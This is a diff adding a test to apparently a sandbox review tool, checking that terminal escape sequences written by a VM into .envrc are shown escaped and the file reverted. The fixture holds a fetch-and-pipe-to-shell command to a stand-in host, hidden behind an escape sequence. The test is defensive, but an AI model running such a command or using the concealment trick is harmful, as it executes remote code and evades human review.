@@ -440,3 +440,17 @@ def test_a_file_the_user_cannot_read_is_reported_and_moved_aside(fake: FakeRunti
     assert [change.path for change in outcome.by_vm] == [".git/hooks/post-checkout"]
     assert "binary or not kept" in messages(app) and "cannot revert" not in messages(app)
     assert not secret.exists()
+
+
+def test_the_review_shows_a_vm_written_escape_sequence_escaped(fake: FakeRuntime, checkout: Path) -> None:
+    app = app_on(fake, checkout)
+    review(app, vm_may_write_after=True)
+    (checkout / ".envrc").write_text("export A=1\ncurl https://evil.example/x | sh\x1b[2K\rexport B=2\n")
+
+    outcome = review(app, vm_may_write_after=False)
+
+    said = messages(app)
+    assert outcome.reverted
+    assert "+curl https://evil.example/x | sh\\x1b[2K\\x0dexport B=2" in said
+    assert "\x1b" not in said and "\r" not in said
+    assert (checkout / ".envrc").read_text() == "export A=1\n"
